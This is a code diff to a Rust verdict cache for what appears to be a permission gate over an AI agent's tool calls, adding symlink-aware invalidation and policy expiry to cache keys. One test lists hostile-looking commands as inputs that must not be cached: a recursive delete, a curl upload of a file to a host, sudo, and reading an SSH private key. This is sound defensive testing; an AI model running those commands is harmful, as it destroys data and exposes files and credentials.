@@ -1,13 +1,14 @@
 //! Verdicts that were given before (DESIGN §6, 2.11): the same ask of the same place under the same policy, while the
-//! workspace is as it was. What cannot be taken back is judged anew every time.
+//! workspace is as it was, as far as the verdict looked at it: where its paths led is looked up again each time. What
+//! cannot be taken back is judged anew every time.
 
-use std::collections::HashMap;
+use std::{cell::RefCell, collections::HashMap};
 
 use sha2::{Digest, Sha256};
 
 use super::{
     effects::Reversible,
-    gate::{Ask, CRITICAL, Judgement, Place},
+    gate::{Ask, CRITICAL, Judgement, Links, Place},
     policy::Known,
 };
 use crate::time::Timestamp;
@@ -27,8 +28,38 @@ pub struct Verdicts {
 #[derive(Debug)]
 struct Entry {
     judgement: Judgement,
+    looked: Looked,
     at: Timestamp,
     used: u64,
+}
+
+/// Paths that a verdict went by, and where they led.
+pub type Looked = Vec<(String, Option<String>)>;
+
+/// Answers as `links` does, and remembers what was asked.
+pub struct Looking<'a> {
+    links: &'a dyn Links,
+    looked: RefCell<Looked>,
+}
+
+impl<'a> Looking<'a> {
+    /// Nothing was asked yet.
+    pub fn new(links: &'a dyn Links) -> Looking<'a> {
+        Looking { links, looked: RefCell::default() }
+    }
+
+    /// What was asked, and answered.
+    pub fn looked(self) -> Looked {
+        self.looked.into_inner()
+    }
+}
+
+impl Links for Looking<'_> {
+    fn real(&self, path: &str) -> Option<String> {
+        let real = self.links.real(path);
+        self.looked.borrow_mut().push((path.to_owned(), real.clone()));
+        real
+    }
 }
 
 impl Default for Verdicts {
@@ -37,13 +68,13 @@ impl Default for Verdicts {
     }
 }
 
-/// The key of an ask. `state` is whatever names the workspace as it is: a tree, a revision.
-pub fn key(ask: &Ask, place: &Place, known: &Known, policy_version: &str, state: &str) -> Key {
+/// The key of an ask. `policy` is the version of the rules, with how many of them have ended by now.
+pub fn key(ask: &Ask, place: &Place, known: &Known, (policy, ended): (&str, usize)) -> Key {
     let mut hash = Sha256::new();
-    // The time is in no rule's condition; what ends by it is bounded by the time that verdicts are kept.
+    // The time is in no rule's condition; rules end by it, and that is part of the key.
     let known = Known { now: Timestamp::default(), ..known.clone() };
-    for part in [ask.tool, &ask.input.to_string(), &format!("{place:?}"), &format!("{known:?}"), policy_version, state]
-    {
+    let (place, known) = (format!("{place:?}"), format!("{known:?}"));
+    for part in [ask.tool, &ask.input.to_string(), &place, &known, policy, &ended.to_string()] {
         hash.update((part.len() as u64).to_le_bytes());
         hash.update(part.as_bytes());
     }
@@ -56,11 +87,14 @@ impl Verdicts {
         Verdicts { entries: HashMap::new(), size, ttl_ms: ttl_s * 1000, uses: 0 }
     }
 
-    /// The verdict that was given, if it still counts.
-    pub fn get(&mut self, key: &Key, now: Timestamp) -> Option<&Judgement> {
+    /// The verdict that was given, if it still counts: its time is not over, and its paths lead where they led.
+    pub fn get(&mut self, key: &Key, now: Timestamp, links: &dyn Links) -> Option<&Judgement> {
         let ttl_ms = self.ttl_ms;
         // A clock that went backwards makes nothing younger.
-        let fresh = |entry: &Entry| now >= entry.at && now.0 - entry.at.0 < ttl_ms;
+        let fresh = |entry: &Entry| {
+            let timely = now >= entry.at && now.0 - entry.at.0 < ttl_ms;
+            timely && entry.looked.iter().all(|(path, led)| links.real(path) == *led)
+        };
         if !self.entries.get(key).is_some_and(fresh) {
             self.entries.remove(key);
             return None;
@@ -72,7 +106,7 @@ impl Verdicts {
     }
 
     /// Keeps a verdict, unless it is about something that cannot be taken back or was not understood.
-    pub fn put(&mut self, key: Key, judgement: Judgement, now: Timestamp) {
+    pub fn put(&mut self, key: Key, judgement: Judgement, looked: Looked, now: Timestamp) {
         let lasting =
             judgement.reversible == Reversible::No || judgement.criticality > CRITICAL || !judgement.understood;
         if lasting || self.size == 0 {
@@ -83,7 +117,7 @@ impl Verdicts {
             oldest.map(|oldest| self.entries.remove(&oldest));
         }
         self.uses += 1;
-        self.entries.insert(key, Entry { judgement, at: now, used: self.uses });
+        self.entries.insert(key, Entry { judgement, looked, at: now, used: self.uses });
     }
 
     /// How many are kept.
@@ -114,7 +148,7 @@ mod tests {
         let policy = Policy::builtin().expect("it is tested");
         let known = Known::default();
         let judgement = judge(&policy, &ask, &place, &known, &NoLinks);
-        (key(&ask, &place, &known, &policy.version, "tree"), judgement)
+        (key(&ask, &place, &known, (&policy.version, 0)), judgement)
     }
 
     #[test]
@@ -122,14 +156,14 @@ mod tests {
         let mut verdicts = Verdicts::new(2, 3600);
         let at = |seconds: u64| Timestamp(seconds * 1000);
         let ((one, first), (two, second), (three, third)) = (given("ls a"), given("ls b"), given("ls c"));
-        verdicts.put(one, first, at(0));
-        verdicts.put(two, second, at(0));
-        assert!(verdicts.get(&one, at(10)).is_some());
-        verdicts.put(three, third, at(20));
-        assert!(verdicts.get(&two, at(20)).is_none(), "not used since");
-        assert!(verdicts.get(&one, at(3599)).is_some());
-        assert!(verdicts.get(&one, at(3600)).is_none(), "an hour is over");
-        assert!(verdicts.get(&three, at(5)).is_none(), "the clock went backwards");
+        verdicts.put(one, first, Vec::new(), at(0));
+        verdicts.put(two, second, Vec::new(), at(0));
+        assert!(verdicts.get(&one, at(10), &NoLinks).is_some());
+        verdicts.put(three, third, Vec::new(), at(20));
+        assert!(verdicts.get(&two, at(20), &NoLinks).is_none(), "not used since");
+        assert!(verdicts.get(&one, at(3599), &NoLinks).is_some());
+        assert!(verdicts.get(&one, at(3600), &NoLinks).is_none(), "an hour is over");
+        assert!(verdicts.get(&three, at(5), &NoLinks).is_none(), "the clock went backwards");
         assert!(verdicts.is_empty());
     }
 
@@ -138,19 +172,20 @@ mod tests {
         let mut verdicts = Verdicts::default();
         for command in ["rm -rf x", "curl -d @f http://x", "frobnicate", "sudo ls", "cat ~/.ssh/id_rsa"] {
             let (key, judgement) = given(command);
-            verdicts.put(key, judgement, Timestamp(0));
+            verdicts.put(key, judgement, Vec::new(), Timestamp(0));
         }
         assert_eq!(verdicts.len(), 0);
     }
 
     #[test]
-    fn another_policy_tree_or_input_is_another_key() {
+    fn another_policy_or_input_is_another_key() {
         let input = json!({"file_path": "/p/a", "content": "1"});
         let other = json!({"file_path": "/p/a", "content": "2"});
         let place = Place::default();
-        let of = |input, version, state| key(&Ask { tool: "Write", input }, &place, &Known::default(), version, state);
-        let first = of(&input, "1", "a");
-        assert_eq!(first, of(&input, "1", "a"));
-        assert!([of(&other, "1", "a"), of(&input, "2", "a"), of(&input, "1", "b")].iter().all(|key| *key != first));
+        let of =
+            |input, version, ended| key(&Ask { tool: "Write", input }, &place, &Known::default(), (version, ended));
+        let first = of(&input, "1", 0);
+        assert_eq!(first, of(&input, "1", 0));
+        assert!([of(&other, "1", 0), of(&input, "2", 0), of(&input, "1", 1)].iter().all(|key| *key != first));
     }
 }
